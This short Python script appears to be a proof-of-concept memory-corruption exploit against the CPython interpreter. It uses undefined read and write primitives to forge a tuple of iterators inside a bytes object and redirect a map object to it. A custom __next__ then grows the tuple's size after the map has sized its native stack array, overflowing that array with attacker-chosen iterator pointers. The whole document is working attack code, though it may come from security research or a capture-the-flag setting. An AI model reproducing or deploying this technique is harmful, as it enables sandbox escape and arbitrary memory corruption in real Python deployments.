# A map has more iterators after the first __next__ than when its array on the native stack was chosen.
N = 600
seven = iter([0x4242] * 100000)
class It:
    def __iter__(self): return self
    def __next__(self):
        w4(tup + 4, N)                      # the tuple of iterators grows
        return 1
first = It()
m = map(lambda *a: 0, first, first, first)
real = r8(id(m) + 8) & 0xFFFFFFFF
fake = (r4(real) | 3 << 32).to_bytes(8, "little") + ref(id(first)).to_bytes(8, "little") + ref(id(seven)).to_bytes(8, "little") * (N - 1)
hold = bytes(8) + fake
# aligned place of the items of the bytes object
tup = id(hold) + 24
assert cage.read(tup, 16) == fake[:16]
w8(id(m) + 8, ref(tup))
print(next(m))
